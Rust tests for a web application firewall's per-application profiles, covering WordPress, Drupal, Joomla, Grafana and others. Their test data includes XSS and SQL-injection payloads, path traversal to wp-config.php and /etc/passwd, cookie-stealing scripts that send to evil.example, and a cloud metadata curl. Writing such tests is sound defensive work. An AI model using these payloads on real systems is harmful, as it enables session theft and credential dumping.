//! Application profiles against the built-in rules, with requests written to
//! look like each application's own traffic: an editor's request (session
//! cookie, and the CSRF header where the application demands one) passes with
//! the profile and is blocked without it; the same body from an anonymous
//! visitor, or with the cookie but without the header, is still blocked; an
//! attack in a field the profile does not name is still blocked.

use wafer_engine::apps::{self, NEVER_RELAXED};
use wafer_engine::{Action, Class, Engine, EngineConfig, MessageKind, Policy, Request, Verdict};

fn engine(apps: &[&str], paranoia: u8) -> Engine {
    Engine::build(EngineConfig {
        policy: Policy {
            paranoia,
            apps: apps.iter().map(|s| s.to_string()).collect(),
            ..Policy::default()
        },
        ..EngineConfig::default()
    })
    .expect("engine builds")
}

/// A browser's request; `cookie` and `csrf` (name, value) are added when given.
fn browser(
    method: &str,
    target: &str,
    content_type: &str,
    body: &str,
    cookie: Option<&str>,
    csrf: Option<(&str, &str)>,
) -> Request {
    let mut r = Request::new(method, target)
        .header("Host", "site.example")
        .header(
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        )
        .header("Accept", "application/json, */*;q=0.1")
        .header("Accept-Language", "en-GB,en;q=0.5")
        .header("Content-Type", content_type);
    if let Some(c) = cookie {
        r = r.header("Cookie", c);
    }
    if let Some((n, v)) = csrf {
        r = r.header(n, v);
    }
    if !body.is_empty() {
        r = r.header("Content-Length", &body.len().to_string());
    }
    r.body = body.as_bytes().to_vec();
    r
}

fn show(v: &Verdict) -> String {
    v.findings
        .iter()
        .map(|f| format!("{} {} {:?}", f.rule_id, f.class, f.location))
        .collect::<Vec<_>>()
        .join("; ")
}

#[track_caller]
fn allowed(e: &Engine, r: &Request, what: &str) {
    let v = e.inspect(r);
    assert_ne!(v.action, Action::Block, "{what}: blocked: {}", show(&v));
}

#[track_caller]
fn blocked(e: &Engine, r: &Request, what: &str) {
    let v = e.inspect(r);
    assert_eq!(v.action, Action::Block, "{what}: not blocked: {}", show(&v));
}

/// One application's case: the editor's request and its variants.
struct Case {
    app: &'static str,
    paranoia: u8,
    method: &'static str,
    target: &'static str,
    content_type: &'static str,
    /// The editor's body, with `{ATTACK}` where `attack` goes (empty: harmless).
    body: &'static str,
    attack: &'static str,
    cookie: &'static str,
    csrf: Option<(&'static str, &'static str)>,
}

impl Case {
    fn request(&self, attack: &str, cookie: bool, csrf: bool) -> Request {
        browser(
            self.method,
            self.target,
            self.content_type,
            &self.body.replace("{ATTACK}", attack),
            cookie.then_some(self.cookie),
            if csrf { self.csrf } else { None },
        )
    }

    /// At the case's paranoia level and at 2, where documents are judged
    /// like any value (and the profile matters most).
    fn check(&self) {
        self.check_at(self.paranoia);
        if self.paranoia < 2 {
            self.check_at(2);
        }
    }

    fn check_at(&self, paranoia: u8) {
        let with = engine(&[self.app], paranoia);
        let without = engine(&[], paranoia);
        let editor = self.request("", true, true);
        let what = |s: &str| format!("{} (paranoia {paranoia}): {s}", self.app);
        allowed(&with, &editor, &what("the editor with the profile"));
        blocked(&without, &editor, &what("the editor without the profile"));
        blocked(
            &with,
            &self.request("", false, true),
            &what("the same body, no session cookie"),
        );
        if self.csrf.is_some() {
            blocked(
                &with,
                &self.request("", true, false),
                &what("the same body, cookie but no CSRF header"),
            );
        }
        blocked(
            &with,
            &self.request(self.attack, true, true),
            &what("an attack in a field the profile does not name"),
        );
        // Another application's profile does not open this one's fields.
        let other = if self.app == "grafana" {
            "drupal"
        } else {
            "grafana"
        };
        blocked(
            &engine(&[other], paranoia),
            &editor,
            &what("under another application's profile"),
        );
    }
}

const WP_POST: &str = r##"{"id":42,"status":"publish","title":"Finding slow queries","slug":"slow-queries{ATTACK}","content":"<!-- wp:paragraph -->\n<p>Two queries that find what slows a shop down, and how to clean up after an import.</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:code -->\n<pre class=\"wp-block-code\"><code>SELECT p.ID, p.post_title FROM wp_posts p WHERE p.post_status = 'draft' UNION SELECT o.id, o.note FROM wp_orders o WHERE o.total > 100;\nDROP TABLE IF EXISTS wp_import_tmp;</code></pre>\n<!-- /wp:code -->\n\n<!-- wp:embed {\"url\":\"https://www.youtube.com/watch?v=aqz-KE-bpKQ\",\"type\":\"video\"} -->\n<figure class=\"wp-block-embed\"><iframe title=\"Talk\" width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/aqz-KE-bpKQ\" frameborder=\"0\" allowfullscreen></iframe></figure>\n<!-- /wp:embed -->\n\n<!-- wp:html -->\n<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-7QX2B1ZK\"></script>\n<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n  gtag('js', new Date());\n  gtag('config', 'G-7QX2B1ZK');\n</script>\n<!-- /wp:html -->"}"##;

#[test]
fn wordpress_block_editor() {
    Case {
        app: "wordpress",
        paranoia: 1,
        method: "POST",
        target: "/wp-json/wp/v2/posts/42?_locale=user",
        content_type: "application/json",
        body: WP_POST,
        attack: "\\\" onmouseover=alert(document.domain) x=\\\"<script>alert(1)</script>",
        cookie: "wordpress_sec_5c1d=admin%7C1765400000; wordpress_logged_in_5c1d=admin%7C1765400000%7Cq3x; wp-settings-1=editor%3Dtinymce",
        csrf: Some(("X-WP-Nonce", "8e1f2a9c3b")),
    }
    .check();
}

#[test]
fn wordpress_theme_editor() {
    Case {
        app: "wordpress",
        paranoia: 1,
        method: "POST",
        target: "/wp-admin/admin-ajax.php",
        content_type: "application/x-www-form-urlencoded",
        body: "nonce=4d2b9e7a10&_wp_http_referer=%2Fwp-admin%2Ftheme-editor.php&theme=twentytwentyfour&file=functions.php{ATTACK}&action=edit-theme-plugin-file&newcontent=%3C%3Fphp%0Aadd_action%28%27wp_head%27%2C+function+%28%29+%7B%0A++echo+%27%3Cscript%3Econsole.log%28%22theme+loaded%22%29%3C%2Fscript%3E%27%3B%0A%7D%29%3B%0A$rows+%3D+$wpdb-%3Eget_results%28%22SELECT+ID+FROM+wp_posts+WHERE+1%3D1+UNION+SELECT+ID+FROM+wp_pages%22%29%3B%0Asystem%28%27ls+-la%27%29%3B%0A",
        attack: "/../../../../wp-config.php",
        cookie: "wordpress_logged_in_5c1d=admin%7C1765400000%7Cq3x",
        csrf: None,
    }
    .check();
}

#[test]
fn drupal_node_form() {
    Case {
        app: "drupal",
        paranoia: 1,
        method: "POST",
        target: "/node/7/edit",
        content_type: "application/x-www-form-urlencoded",
        body: "title%5B0%5D%5Bvalue%5D=Embedding+a+map{ATTACK}&body%5B0%5D%5Bsummary%5D=&body%5B0%5D%5Bvalue%5D=%3Cp%3EThe+map+below+loads+from+our+tile+server.%3C%2Fp%3E%0D%0A%3Cdiv+id%3D%22map%22%3E%3C%2Fdiv%3E%0D%0A%3Cscript+src%3D%22https%3A%2F%2Funpkg.com%2Fleaflet%401.9.4%2Fdist%2Fleaflet.js%22%3E%3C%2Fscript%3E%0D%0A%3Cscript%3Evar+m+%3D+L.map%28%27map%27%29.setView%28%5B51.5%2C+-0.09%5D%2C+13%29%3B%3C%2Fscript%3E&body%5B0%5D%5Bformat%5D=full_html&form_build_id=form-7q2&form_token=ab12cd&form_id=node_article_edit_form&op=Save",
        attack: "%3Cscript%3Edocument.location%3D%27https%3A%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E",
        cookie: "SSESS4f1c0e=Xy7kQ2w9; Drupal.visitor.name=editor",
        csrf: None,
    }
    .check();
}

#[test]
fn drupal_jsonapi() {
    Case {
        app: "drupal",
        paranoia: 1,
        method: "PATCH",
        target: "/jsonapi/node/article/8c1e0d2a-77b3-4f0e-9a51-3d2c1b0a9f8e",
        content_type: "application/vnd.api+json",
        body: r##"{"data":{"type":"node--article","id":"8c1e0d2a-77b3-4f0e-9a51-3d2c1b0a9f8e","attributes":{"title":"Chart{ATTACK}","body":{"value":"<p>Monthly totals:</p><canvas id=\"c\"></canvas><script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script><script>new Chart(document.getElementById('c'), {type: 'bar'});</script>","format":"full_html"}}}}"##,
        attack: "<img src=x onerror=alert(1)>",
        cookie: "SESS4f1c0e=Xy7kQ2w9",
        csrf: Some(("X-CSRF-Token", "Zq3v8mD1sJk")),
    }
    .check();
}

#[test]
fn joomla_article() {
    Case {
        app: "joomla",
        paranoia: 1,
        method: "POST",
        target: "/administrator/index.php?option=com_content&view=article&layout=edit&id=3",
        content_type: "application/x-www-form-urlencoded",
        body: "jform%5Btitle%5D=Newsletter+signup&jform%5Balias%5D=newsletter{ATTACK}&jform%5Barticletext%5D=%3Cp%3ESign+up+below.%3C%2Fp%3E%0D%0A%3Ciframe+src%3D%22https%3A%2F%2Fforms.example.net%2Fembed%2F7781%22+width%3D%22100%25%22+height%3D%22480%22+onload%3D%22this.style.height%3Dthis.contentWindow.document.body.scrollHeight%2B%27px%27%22%3E%3C%2Fiframe%3E&jform%5Bstate%5D=1&task=article.apply&5f2a9c0d1e3b4a6f7c8d9e0f1a2b3c4d=1",
        attack: "%27+UNION+SELECT+username%2Cpassword+FROM+jos_users--+-",
        cookie: "9a3f0c1e2b4d6f8a0c2e4a6b8d0f1e3c=k2j4h6g8f0; joomla_user_state=logged_in",
        csrf: None,
    }
    .check();
}

#[test]
fn nextcloud_note() {
    Case {
        app: "nextcloud",
        paranoia: 1,
        method: "PUT",
        target: "/apps/notes/notes/118",
        content_type: "application/json",
        body: r##"{"id":118,"category":"ops{ATTACK}","content":"# Backup\n\nOn the old host:\n\n    mysqldump shop > /tmp/shop.sql; scp /tmp/shop.sql backup@10.0.0.5:/srv/\n\nSnippet for the status page:\n\n<script src=\"https://status.example.net/embed.js\"></script>\n<div onload=\"StatusEmbed.init('x1')\"></div>\n"}"##,
        attack: "<svg/onload=alert(document.cookie)>",
        cookie: "oc8x2k1=9f8e7d; nc_username=ana; nc_session_id=b41c9e7f2a",
        csrf: Some(("requesttoken", "Q2xhc3NpYzpQ")),
    }
    .check();
}

#[test]
fn mediawiki_source_edit() {
    Case {
        app: "mediawiki",
        paranoia: 1,
        method: "POST",
        target: "/w/index.php?title=MediaWiki:Common.js&action=submit",
        content_type: "application/x-www-form-urlencoded",
        body: "wpUnicodeCheck=%E2%84%B3%F0%9D%92%B2%E2%99%A5%F0%9D%93%8A%F0%9D%93%83%F0%9D%92%BE%F0%9D%92%B8%E2%84%B4%F0%9D%92%B9%E2%84%AF&wpSection=&wpStarttime=20261206101500{ATTACK}&wpEdittime=20261205090000&wpTextbox1=%2F*+Loads+the+site+survey+banner+*%2F%0A%24%28+function+%28%29+%7B%0A++%24%28+%27%23siteNotice%27+%29.append%28+%27%3Ciframe+src%3D%22https%3A%2F%2Fsurvey.example.org%2Fw%2F9%22+onload%3D%22window.surveyReady%3Dtrue%22%3E%3C%2Fiframe%3E%27+%29%3B%0A++document.write%28+%27%3Cscript+src%3D%22%2Fw%2Findex.php%3Ftitle%3DMediaWiki%3ASurvey.js%26action%3Draw%22%3E%3C%2Fscript%3E%27+%29%3B%0A%7D+%29%3B%0A&wpSummary=survey+banner&wpSave=Save+changes&wpEditToken=3f1e%2B%5C",
        attack: "%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
        cookie: "my_wiki_session=kq1v8o; my_wikiUserID=3; my_wikiUserName=Admin",
        csrf: None,
    }
    .check();
}

const NOTEBOOK: &str = r##"{"type":"notebook","format":"json","path":"reports/orders.ipynb{ATTACK}","content":{"nbformat":4,"nbformat_minor":5,"metadata":{"kernelspec":{"name":"python3","display_name":"Python 3"}},"cells":[{"cell_type":"code","id":"a1","metadata":{},"execution_count":1,"source":["import os, sqlite3\n","conn = sqlite3.connect('shop.db')\n","conn.execute(\"CREATE TABLE IF NOT EXISTS audit (id INTEGER, note TEXT)\")\n","rows = conn.execute(\"SELECT id, total FROM orders WHERE total > 10 UNION SELECT id, 0 FROM refunds\").fetchall()\n","os.system('ls -la /var/log/ && cat /etc/hostname')\n","print(rows)\n"],"outputs":[{"output_type":"display_data","metadata":{},"data":{"text/plain":["<Figure>"],"text/html":["<div id=\"plot-7\"></div>\n","<script type=\"text/javascript\">require(['plotly'], function(Plotly){ Plotly.newPlot('plot-7', [{x:[1,2],y:[3,4]}]); });</script>"]}}]}]}}"##;

#[test]
fn jupyterlab_notebook_save() {
    Case {
        app: "jupyterlab",
        paranoia: 1,
        method: "PUT",
        target: "/api/contents/reports/orders.ipynb",
        content_type: "application/json",
        body: NOTEBOOK,
        attack: "/../../../../etc/passwd",
        cookie: "_xsrf=2|1e2f3a4b|9c8d7e6f5a4b3c2d1e0f|1765000000; username-localhost-8888=\"2|1:0|10:1765000000|23:username-localhost-8888|44:ZjM5|c0ffee\"",
        csrf: Some(("X-XSRFToken", "2|1e2f3a4b|9c8d7e6f5a4b3c2d1e0f|1765000000")),
    }
    .check();
}

#[test]
fn phpmyadmin_sql_tab() {
    Case {
        app: "phpmyadmin",
        paranoia: 1,
        method: "POST",
        target: "/phpmyadmin/index.php?route=/import",
        content_type: "application/x-www-form-urlencoded",
        body: "db=shop{ATTACK}&table=&token=6b4a7c2e&is_js_confirmed=1&sql_query=SELECT+u.id%2C+u.email+FROM+users+u+WHERE+u.id+%3D+1+UNION+SELECT+a.id%2C+a.email+FROM+admins+a%3B%0ADROP+TABLE+IF+EXISTS+tmp_sessions%3B&sql_delimiter=%3B&ajax_request=true",
        attack: "%27+OR+1%3D1+UNION+SELECT+user%2Cauthentication_string+FROM+mysql.user--+-",
        cookie: "phpMyAdmin=r3k9q1v7; pma_lang=en; pmaUser-1=abc; pmaAuth-1=def",
        csrf: None,
    }
    .check();
}

#[test]
fn grafana_dashboard_save() {
    Case {
        app: "grafana",
        paranoia: 1,
        method: "POST",
        target: "/api/dashboards/db",
        content_type: "application/json",
        body: r##"{"folderUid":"ops","overwrite":false,"message":"orders panel{ATTACK}","dashboard":{"uid":"shop1","title":"Shop","panels":[{"id":1,"type":"timeseries","targets":[{"refId":"A","rawQuery":true,"rawSql":"SELECT $__timeGroupAlias(created,$__interval), sum(total) FROM orders WHERE $__timeFilter(created) GROUP BY 1 UNION SELECT $__timeGroupAlias(created,$__interval), -sum(amount) FROM refunds WHERE $__timeFilter(created) GROUP BY 1 ORDER BY 1"}]},{"id":2,"type":"text","options":{"mode":"html","content":"<iframe src=\"https://status.example.net/embed\" onload=\"this.height=300\"></iframe><script>console.log('status')</script>"}}]}}"##,
        attack: "<script>fetch('//evil.example/'+document.cookie)</script>",
        cookie: "grafana_session=5e1f0a9c2b3d",
        csrf: None,
    }
    .check();
}

#[test]
fn jupyterlab_kernel_channel() {
    let msg = |code: &str, session: &str| {
        format!(
            r##"{{"header":{{"msg_id":"7f1e","username":"ana","session":"{session}","msg_type":"execute_request","version":"5.3"}},"parent_header":{{}},"metadata":{{}},"channel":"shell","content":{{"code":"{code}","silent":false,"store_history":true,"user_expressions":{{}},"allow_stdin":true,"stop_on_error":true}}}}"##
        )
    };
    let code = r##"import os\nos.system('cat /etc/passwd | cut -d: -f1; curl -s http://169.254.169.254/latest/meta-data/ | head')\nrows = conn.execute(\"SELECT id FROM t WHERE 1=1 UNION SELECT id FROM u\").fetchall()"##;
    let target = "/api/kernels/4c2f0e1a-9b8d-4e7f-a6c5-3d2e1f0a9b8c/channels?session_id=9e8f";
    let cookies: Vec<String> = vec!["_xsrf".into(), "username-localhost-8888".into()];
    // Paranoia 2: at 1 a multi-line code value without live markup is weak
    // evidence already (docs/DETECTION.md), and the channel passes anyway.
    let with = engine(&["jupyterlab"], 2);
    let without = engine(&[], 2);
    let verdict = |e: &Engine, cookies: &[String], m: &str| {
        e.messages_with_cookies(target, cookies)
            .inspect(1, MessageKind::Text, m.as_bytes())
            .action
    };
    let good = msg(code, "9e8f");
    assert_ne!(
        verdict(&with, &cookies, &good),
        Action::Block,
        "the user's code"
    );
    assert_eq!(verdict(&without, &cookies, &good), Action::Block);
    assert_eq!(
        verdict(&with, &[], &good),
        Action::Block,
        "no login cookie on the upgrade"
    );
    assert_eq!(
        verdict(&with, &cookies[..1], &good),
        Action::Block,
        "_xsrf alone is not a login"
    );
    let bad = msg("print(1)", "9e8f' UNION SELECT password FROM users-- -");
    assert_eq!(
        verdict(&with, &cookies, &bad),
        Action::Block,
        "an attack in the message header"
    );
}

#[test]
fn a_self_url_parameter_is_relaxed_for_ssrf_only() {
    let login = |redirect: &str| {
        browser(
            "GET",
            &format!("/wp-login.php?redirect_to={redirect}&reauth=1"),
            "text/plain",
            "",
            None,
            None,
        )
    };
    let local = login("http%3A%2F%2F127.0.0.1%3A8080%2Fwp-admin%2F");
    let with = engine(&["wordpress"], 1);
    allowed(&with, &local, "a local site's own admin URL");
    let v = engine(&[], 1).inspect(&local);
    assert!(
        v.findings.iter().any(|f| f.class == Class::Ssrf),
        "the case needs an ssrf finding without the profile: {}",
        show(&v)
    );
    blocked(
        &with,
        &login("%27+UNION+SELECT+user_pass+FROM+wp_users--+-"),
        "sqli in redirect_to",
    );
    blocked(
        &with,
        &login("%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        "xss in redirect_to",
    );
}

#[test]
fn every_embedded_profile_parses_and_compiles() {
    let all = apps::builtin().unwrap_or_else(|e| panic!("{}", e.join("\n")));
    let names = apps::names();
    for want in [
        "wordpress",
        "drupal",
        "joomla",
        "nextcloud",
        "mediawiki",
        "jupyterlab",
        "phpmyadmin",
        "grafana",
    ] {
        assert!(names.contains(&want), "{want} missing from {names:?}");
    }
    let e = Engine::builtin();
    let table = e.rule_table();
    for p in all {
        let ex = p.compile(&table);
        let entries = p.entries().count();
        assert!(ex.len() >= entries, "{}: {} exclusions", p.name, ex.len());
        assert!(
            !p.fingerprint.paths.is_empty(),
            "{}: no fingerprint",
            p.name
        );
        for x in &ex {
            assert!(!x.args.is_empty(), "{}: a request-wide exclusion", p.name);
            // Nothing but self-URL entries goes without a session cookie.
            if x.when_cookies.is_empty() {
                assert!(
                    x.rules.iter().all(|r| table
                        .iter()
                        .filter(|(id, _)| r.contains(*id))
                        .all(|(_, c)| matches!(c, Class::Ssrf | Class::Rfi))),
                    "{}: {:?} without a session",
                    p.name,
                    x.path.as_str()
                );
            }
            for (id, class) in &table {
                if NEVER_RELAXED.contains(class) {
                    assert!(
                        !x.rules.iter().any(|r| r.contains(*id)),
                        "{}: relaxes {class} rule {id}",
                        p.name
                    );
                }
            }
        }
        // Through the engine, as `[inspection] apps` does.
        let built = engine(&[p.name.as_str()], 1);
        assert_eq!(built.policy().app_exclusions.len(), ex.len());
    }
    let err = Engine::build(EngineConfig {
        policy: Policy {
            apps: vec!["wordpres".into()],
            ..Policy::default()
        },
        ..EngineConfig::default()
    })
    .unwrap_err();
    let msg = err[0].to_string();
    assert!(
        msg.contains("wordpres") && msg.contains("jupyterlab"),
        "{msg}"
    );
}

#[test]
fn an_editor_still_meets_scanner_and_protocol_rules() {
    let e = engine(&apps::names(), 1);
    let mut r = browser(
        "POST",
        "/wp-json/wp/v2/posts/42",
        "application/json",
        &WP_POST.replace("{ATTACK}", ""),
        Some("wordpress_logged_in_5c1d=admin%7C1"),
        Some(("X-WP-Nonce", "8e1f2a9c3b")),
    );
    allowed(&e, &r, "every profile at once, the editor");
    r.headers
        .retain(|(n, _)| !n.eq_ignore_ascii_case("user-agent"));
    r.headers.push((
        "User-Agent".into(),
        "sqlmap/1.8.2#stable (https://sqlmap.org)".into(),
    ));
    let v = e.inspect(&r);
    assert!(
        v.findings.iter().any(|f| f.class == Class::Scanner),
        "{}",
        show(&v)
    );
    let mut r = browser(
        "POST",
        "/wp-json/wp/v2/posts/42",
        "application/json",
        &WP_POST.replace("{ATTACK}", ""),
        Some("wordpress_logged_in_5c1d=admin%7C1"),
        Some(("X-WP-Nonce", "8e1f2a9c3b")),
    );
    r.method = "TRACK".into();
    let v = e.inspect(&r);
    assert!(
        v.findings.iter().any(|f| f.class == Class::Protocol),
        "{}",
        show(&v)
    );
}
